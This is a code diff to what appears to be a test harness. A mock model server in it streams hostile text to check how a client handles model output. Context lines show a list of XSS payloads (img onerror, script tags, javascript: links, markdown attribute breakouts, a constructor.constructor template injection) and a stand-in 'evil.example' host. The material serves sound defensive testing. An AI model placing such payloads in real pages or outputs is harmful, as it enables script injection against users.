@@ -5,8 +5,9 @@ import json
 import re
 from collections import Counter
 
-import models_server
 import uvloop
+
+import models_server
 from models_server import STREAMS, Asked, pieces_for, whole
 
 EVIL = "https://evil.example"
@@ -68,7 +69,7 @@ PAYLOADS: tuple[str, ...] = (
     f"'-{RUN}-'",
     f"`<img src=x onerror='{RUN}'>`",
     f"```html\n<img src=x onerror='{RUN}'>\n```",
-    f'[title](https://a.example "\' onmouseover=\'{RUN}")',
+    f"[title](https://a.example \"' onmouseover='{RUN}\")",
     f'[x](https://a.example/"onmouseover="{RUN})',
     f"| <img src=x onerror='{RUN}'> | b |\n|---|---|\n| <script>{RUN}</script> | [j](javascript:{RUN}) |",
     f"{{{{constructor.constructor('{RUN}')()}}}}",
@@ -94,7 +95,7 @@ async def hostile(asked: Asked) -> None:
     labels = re.search(r"Labels you may choose: ([A-Z]+)", said)
     if labels and r"\"choice\"" in said:
         text = json.dumps({"choice": labels[1], "confidence": 0.5, "reason": text})
-    await whole(asked, [text[at : at + 9] for at in range(0, len(text), 9)], pace_s=0.002)
+    await whole(asked, [text[at : at + 9] for at in range(0, len(text), 9)], pace_s=0.04)
 
 
 def tale() -> list[str]:
